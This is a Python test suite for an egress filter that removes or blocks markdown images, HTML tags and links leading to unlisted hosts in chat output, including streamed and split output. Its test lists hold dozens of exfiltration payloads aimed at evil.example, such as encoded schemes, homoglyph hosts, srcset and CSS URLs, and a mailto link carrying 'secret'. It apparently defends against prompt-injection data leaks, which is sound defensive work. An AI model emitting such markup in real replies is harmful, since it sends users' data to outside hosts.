"""No address of a host that is not listed gets through, in whatever form, and wherever a stream is cut."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from headworks.screening.injection.egress import TAKEN_OUT, Egress

OUT = [  # what a browser or a chat window would follow to evil.example
    "![x](https://evil.example/?d=1)",
    "![x](<https://evil.example/?d=1>)",
    '![x](https://evil.example/?d=1 "t")',
    "![x]( https://evil.example/)",
    "![x](//evil.example/p)",
    "![x](https:evil.example)",
    "![x](https:\\\\evil.example/)",
    "![x](HTTPS://EVIL.EXAMPLE/)",
    "![x](https://ok.example@evil.example/)",
    "![x](https://ok.example%40evil.example/)",
    "![x](https://evil.example:8443/)",
    "![x](https://evil.example./)",
    "![x](https://ok.example.evil.example/)",
    "![x](&#104;ttps://evil.example/)",
    "![x](https&colon;//evil.example/)",
    "![a [b] c](https://evil.example/)",
    "![a [b](https://ok.example/) c](https://evil.example/)",
    "![x][1]\n\n[1]: https://evil.example/",
    "![x]\n\n[x]: <https://evil.example/>",
    "![x][1]\n\n[1]: //evil.example/p",
    "![x](data:text/html,hi)",
    "![x](https://ok.example/go?to=https://evil.example/)",
    "![x](https://ok.example/go?to=https%3A%2F%2Fevil.example)",
    "![x](https://ok.example/go?to=https%253A%252F%252Fevil.example)",
    "![x](https://ok.example/go?to=//evil.example)",
    "![x](https://xn--vil-hoa.example/)",
    "![x](https://\u0435vil.example/)",
    "![x](https://6d657373616765.evil.example/)",
    "![x](http://203.0.113.7/)",
    "![x](http://[2001:db8::1]/)",
    '<img src="https://evil.example/">',
    "<img src=https://evil.example/>",
    "<img src='//evil.example/p'>",
    '<img alt="<a " src="https://evil.example/">',
    '<img src="&#x68;ttps://evil.example/">',
    '<img src="ht\ntps://evil.example/">',
    '<img srcset="a.png 1x, https://evil.example/ 2x">',
    "<div style=\"background:url('https://evil.example/')\">",
    '<svg><image xlink:href="https://evil.example/"/></svg>',
    '<link rel=stylesheet href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    "<style>@import '//evil.example/x.css'</style>",
    "https://ok.example/![](https://evil.example/)",
    "<a ' <img src=//evil.example/p>",
    "![a\\](b](//evil.example/p)",
    "![x](//ok.example\\@evil.example)",
    "![x](https://ok.example\\@evil.example/)",
    "![x](//evil\u3002example/p)",
    "<img src\n=\n'//evil.example/p'>",
]
CLICKED = [
    "[x](https://evil.example/)",
    "[x][1]\n\n[1]: https://evil.example/",
    "<https://evil.example/>",
    "<mailto:me@evil.example>",
    "<me@evil.example>",
    "[x](mailto:me@evil.example?body=secret)",
    "https://evil.example/a?b=c",
    "see www.evil.example/x.",
    '<a href="https://evil.example/">x</a>',
    "[x](javascript:alert(1))",
    "https:\\/\\/evil.example\\/",
    "https://evil.example/![x](https://ok.example/a.png)",
]
KEPT = [
    "![x](https://ok.example/a.png)",
    "![x](https://cdn.parts.example/a.png)",
    "[x](/docs/page.html#part)",
    "![x](a.png)",
    "at 12:30, localhost:8080, note: C:\\dir, std::vector<int> a[3]; a < b && c > d",
    '<p style="color:red">x</p>',
    "price: 5 // a comment, 1/2 and and/or",
    "![x](about:blank)",
    "{'a': [1, 2], 'b': \"x\"}",
]
HOSTS = ["ok.example", "*.parts.example"]


def egress(images="sanitise", links="sanitise"):
    return Egress({"image": images, "link": links}, HOSTS)


@pytest.mark.parametrize("text", OUT)
def test_what_is_loaded_by_itself_is_taken_out_and_links_are_left(text):
    judged = egress(links="monitor").judge(f"Look: {text} there.")

    assert judged.found.get("image", 0) >= 1, judged
    assert TAKEN_OUT in judged.text
    assert "image" not in egress().judge(judged.text).found


@pytest.mark.parametrize("text", OUT + CLICKED)
def test_what_is_to_be_blocked_is_blocked(text):
    assert egress("block", "block").judge(f"Look: {text} there.").is_blocked


@pytest.mark.parametrize("text", CLICKED)
def test_a_link_is_taken_out_where_the_contract_says_so_and_only_noted_where_it_does_not(text):
    assert TAKEN_OUT in egress().judge(text).text
    noted = egress(links="monitor").judge(text)
    assert (noted.text, set(noted.found)) == (text, {"link"})


@pytest.mark.parametrize("text", KEPT)
def test_what_leads_nowhere_else_stays(text):
    judged = egress().judge(text)
    assert (judged.text, judged.found) == (text, {})


def streamed(made, text, cuts):
    stream, out, at = made.stream(), [], 0
    for cut in [*sorted(cuts), len(text)]:
        out.append(stream.feed(text[at:cut]))
        at = cut
    return "".join([*out, stream.end()]), stream


@pytest.mark.parametrize("text", OUT + CLICKED)
def test_a_stream_that_is_cut_anywhere_lets_nothing_out(text):
    text = f"Look: {text} there."
    for cuts in [*([at] for at in range(len(text))), range(len(text))]:
        out, stream = streamed(egress(), text, cuts)
        assert stream.found, (text, cuts)
        assert not egress().judge(out).found, (out, cuts)


@pytest.mark.parametrize("text", OUT)
def test_in_a_stream_an_image_is_one_wherever_it_is_cut(text):
    for cuts in [*([at] for at in range(len(text))), range(len(text))]:
        assert streamed(egress(links="monitor"), text, cuts)[1].found.get("image"), (text, cuts)


@settings(max_examples=30, deadline=None)
@given(
    st.lists(st.sampled_from([*KEPT, "plain words, ", "h", "!", "](", "<b ", "www"]), max_size=6).map(" ".join),
    st.lists(st.integers(0, 200), max_size=12),
)
def test_a_stream_without_such_addresses_comes_out_as_it_is(text, cuts):
    assert streamed(egress(), text, [cut for cut in cuts if cut < len(text)])[0] == text


def test_little_is_held_back():
    stream = egress().stream()
    words = [f"{word} " for word in ("the", "answer", "is", "that", "we", "have", "shipped", "all", "this", "week")]
    assert [stream.feed(word) for word in words] == words


def test_what_is_open_for_too_long_can_become_no_tag_any_more():
    stream = egress().stream()
    out = (
        stream.feed('<img alt="' + "a" * 5000) + stream.feed('" sr') + stream.feed("c=//evil.example/p>") + stream.end()
    )
    assert "<img" not in out


@pytest.mark.parametrize("text", OUT)
def test_a_pause_in_the_midst_of_an_address_makes_it_none(text):
    """A call can stand between two pieces of a text, and a chat window joins them."""
    for at in range(1, len(text)):
        stream = egress().stream()
        told = stream.feed(text[:at]) + stream.pause() + stream.feed(text[at:]) + stream.end()

        # "&lt;" begins no tag, though the judge, who cannot know who decodes it, takes it for one
        assert "&lt;" in told or "image" not in egress().judge(told).found, (at, told)


def test_a_pause_where_nothing_is_open_changes_nothing():
    stream = egress().stream()

    assert stream.feed("Sure. ") + stream.pause() + stream.feed("Done.") + stream.end() == "Sure. Done."
